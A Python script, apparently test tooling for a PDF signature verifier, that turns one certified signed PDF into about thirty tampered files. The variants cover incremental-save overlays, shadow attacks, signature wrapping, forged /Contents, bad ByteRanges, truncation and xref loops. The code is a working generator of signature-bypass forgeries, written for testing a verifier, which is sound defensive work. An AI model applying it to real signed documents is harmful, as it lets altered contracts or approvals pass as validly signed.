"""Writes the known attacks on signed PDFs, each as a file. None needs a key: that is what makes them attacks.

    attacks.py FILE FOLDER   FILE has one signature, that certifies; tests/judged.rs asks our verifier about the results
"""

import re
import sys
from pathlib import Path


class Victim:
    """A signed file, and the few places of it that attacks aim at."""

    def __init__(self, pdf):
        self.pdf = pdf
        self.xref = int(re.findall(rb"startxref\s+(\d+)", pdf)[-1])
        self.trailer = pdf[pdf.rindex(b"trailer") + 7 : pdf.rindex(b"startxref")].strip()
        self.size = int(re.search(rb"/Size (\d+)", self.trailer)[1])
        self.root = int(re.search(rb"/Root (\d+)", self.trailer)[1])
        self.info = int(re.search(rb"/Info (\d+)", self.trailer)[1])
        self.signature = int(re.findall(rb"/V (\d+) 0 R", pdf)[-1])
        self.form = int(re.search(rb"/AcroForm (\d+)", self.body(self.root))[1])
        self.widget = int(re.search(rb"/Fields\s*\[\s*(\d+)", self.body(self.form))[1])
        self.page = int(re.search(rb"/P (\d+) 0 R", self.body(self.widget))[1])
        self.content = int(re.search(rb"/Contents\s*\[?\s*(\d+)", self.body(self.page))[1])
        self.data = self.number_with(rb"/Type\s*/EmbeddedFile")
        self.metadata = int(re.search(rb"/Metadata (\d+)", self.body(self.root))[1])
        self.range = [int(word) for word in self.range_text().strip(b"[] ").split()]

    def places(self, number):
        """Where each version of an object begins."""
        return [found.start() for found in re.finditer(rb"(?<!\d)%d 0 obj" % number, self.pdf)]

    def body(self, number, version=-1):
        """The newest version of an object, between its header and its end."""
        start = self.places(number)[version] + len(b"%d 0 obj" % number)
        return self.pdf[start : self.pdf.index(b"endobj", start)].strip()

    def number_with(self, pattern):
        return next(n for n in range(1, self.size) if self.places(n) and re.search(pattern, self.body(n)[:300]))

    def range_text(self):
        return re.search(rb"/ByteRange\s*(\[[\d ]+\] *)", self.body(self.signature))[1]

    def update(self, objects=(), entries=(), more=b"", pdf=None):
        """An incremental update: new versions of objects, or entries that point at old bytes."""
        out, places = bytearray(pdf or self.pdf), dict(entries)
        for number, body in dict(objects).items():
            places[number] = len(out)
            out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
        start = len(out)
        out += table(places)
        trailer = re.sub(rb"/Prev \d+", b"", self.trailer)
        trailer = trailer.replace(b"/Size %d" % self.size, b"/Size %d" % (1 + max([self.size - 1, *places])))
        out += b"trailer\n" + trailer[:-2] + b"/Prev %d%s>>\nstartxref\n%d\n%%%%EOF\n" % (self.xref, more, start)
        return bytes(out)

    def with_range(self, *numbers):
        """The file with other numbers in its ByteRange, as long as the old ones with their spaces."""
        old = self.range_text()
        new = b"[%s]" % b" ".join(b"%d" % number for number in numbers)
        return self.pdf.replace(old, new[: len(old)].ljust(len(old)))

    def wrapped(self):
        """Signature wrapping: the signed end of the file moves away, and a table of other objects takes its old place."""
        _, first, second, length = self.range
        contents, end = self.pdf[first:second], self.xref + 6 * len(self.pdf[first:second])
        moved = self.body(self.signature).replace(self.range_text(), b"[0 %d %d %d]" % (first, end, length))
        evil = {self.content: b"<</Length 0>>stream\n\nendstream", self.signature: moved}
        places = {n: self.places(n)[-1] for n in (self.root, self.form, self.widget, self.page)}
        tail = b"trailer\n" + self.trailer + b"\n"
        cursor = self.xref + len(table({**places, **evil.fromkeys(evil, 0)})) + len(tail)
        bodies = b""
        for number, body in evil.items():
            places[number] = cursor + len(bodies)
            bodies += b"%d 0 obj\n%s\nendobj\n" % (number, body)
        new = self.pdf[: self.xref] + table(places) + tail + bodies
        return new.ljust(end) + self.pdf[second:]


def table(places):
    """A cross-reference table with these entries."""
    return b"xref\n0 0\n" + b"".join(b"%d 1\n%010d 00000 n \n" % entry for entry in sorted(places.items()))


def attacks(v):
    """Each attack with its name."""
    stream = b"<</Length 0>>stream\n\nendstream"
    _, start, end, length = v.range
    signature, contents = v.body(v.signature), v.pdf[start:end]
    page, catalog, form = v.body(v.page), v.body(v.root), v.body(v.form)
    yield "overlay-page", v.update({v.content: stream})
    yield "overlay-data", v.update({v.data: b"<</Type/EmbeddedFile/Length 2>>stream\n{}\nendstream"})
    yield "overlay-metadata", v.update({v.metadata: b"<</Type/Metadata/Subtype/XML/Length 0>>stream\n\nendstream"})
    yield "overlay-info", v.update({v.info: b"<</Title(Another)>>"})
    yield "overlay-catalog", v.update({v.root: re.sub(rb"/Perms\s*<<.*?>>", b"", catalog)})
    yield "overlay-form", v.update({v.form: form[:-2] + b"/NeedAppearances true>>"})
    yield "overlay-unreferenced", v.update({v.size: stream})
    note = b"<</Type/Annot/Subtype/FreeText/Rect[0 0 600 800]/Contents(Approved)/DA(/F 9 Tf)>>"
    noted = re.sub(rb"/Annots\s*\[", b"/Annots[%d 0 R " % v.size, page)
    yield "overlay-note", v.update({v.size: note, v.page: noted})
    yield "overlay-empty", v.update()
    yield "overlay-garbage", v.pdf + b"\n% one more line\n"
    emptied = re.sub(rb"/Pages \d+", b"/Pages %d" % v.size, catalog)
    yield "overlay-pages", v.update({v.root: emptied, v.size: b"<</Type/Pages/Kids[]/Count 0>>"})
    yield "shadow-hide-page", v.update(entries={v.page: v.places(v.page)[0]})
    yield "shadow-hide-form", v.update(entries={v.root: v.places(v.root)[0]})
    yield "shadow-other-object", v.update(entries={v.content: v.places(v.metadata)[-1]})
    yield "hybrid-table", v.update(more=b"/XRefStm %d" % v.places(v.metadata)[0])
    yield "forgery-no-range", v.update({v.signature: re.sub(rb"/ByteRange\s*\[[\d ]+\]", b"", signature)})
    yield "forgery-no-contents", v.update({v.signature: signature.replace(b"/Contents " + contents, b"")})
    yield "forgery-empty-contents", v.update({v.signature: signature.replace(contents, b"<>")})
    yield "forgery-null-contents", v.update({v.signature: signature.replace(contents, b"null ")})
    yield "forgery-zero-contents", v.pdf.replace(contents, b"<" + b"0" * (len(contents) - 2) + b">")
    yield "forgery-second-contents", v.update({v.signature: signature[:-2] + b"/Contents<00>>>"})
    yield "wrapping", v.wrapped()
    copied = {v.size: v.body(v.widget).replace(b"/V %d" % v.signature, b"/V %d" % (v.size + 1)), v.size + 1: signature}
    listed = re.sub(rb"/Fields\s*\[", b"/Fields[%d 0 R " % v.size, form)
    yield "same-range-twice", v.update({**copied, v.form: listed})
    yield "same-signature-twice", v.update({v.form: re.sub(rb"/Fields\s*\[", b"/Fields[%d 0 R " % v.widget, form)})
    yield "range-gap", v.with_range(0, start - 500, end, length)
    yield "range-late", v.with_range(9, start - 9, end, length)
    yield "range-short", v.with_range(0, start, end, length - 9)
    yield "range-negative", v.with_range(0, start, -9, length)
    yield "range-overlap", v.with_range(0, start, start - 9, length)
    yield "range-overflow", v.with_range(0, start, end, 2**63)
    yield "cut-in-half", v.pdf[: len(v.pdf) // 2]
    yield "cut-at-the-end", v.pdf[:-9]
    yield "cut-in-contents", v.pdf[: start + 99]
    yield "table-loop", v.pdf.replace(b"/Prev ", b"/Prev %d%%" % v.xref, 1)
    yield "deep-nesting", v.update({v.form: b"[" * 100_000})


def main():
    victim, folder = Victim(Path(sys.argv[1]).read_bytes()), Path(sys.argv[2])
    folder.mkdir(parents=True, exist_ok=True)
    for name, pdf in attacks(victim):
        if pdf == victim.pdf:
            raise SystemExit(f"the attack {name} changes nothing: see how the file is written now")
        (folder / f"{name}.pdf").write_bytes(pdf)


if __name__ == "__main__":
    main()
